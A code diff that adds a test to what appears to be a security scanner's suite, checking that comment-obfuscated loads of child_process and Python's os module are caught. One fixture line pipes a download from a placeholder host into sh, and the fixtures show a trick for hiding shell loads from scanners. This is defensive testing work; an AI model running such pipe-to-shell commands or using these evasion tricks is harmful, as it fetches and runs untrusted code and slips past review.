@@ -127,3 +127,17 @@ describe("scan/network-call: a global call laid out to look like a comment to a 
     ]);
   });
 });
+
+describe("scan/shell-command: a module load with a comment between its tokens", () => {
+  it("scan/shell-command: `require(/* c */ \"child_process\")`, `from /* c */ \"child_process\"` and Python's `__import__(  # c` fail the built Action at each call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/req.js"), 'const { exec } = require(/* the shell */ "child_process");\nexec("curl -s https://x.example | sh");\n');
+      writeFileSync(join(dir, "agent/esm.mjs"), 'import { execSync } from /* the shell */ "child_process";\nexecSync("id");\n');
+      writeFileSync(join(dir, "agent/dyn.py"), '__import__(  # the shell\n    "os").system("id")\n');
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command", "scan/shell-command"]);
+    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /file=([^,]+),line=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["agent/dyn.py:1", "agent/esm.mjs:2", "agent/req.js:2"]);
+  });
+});
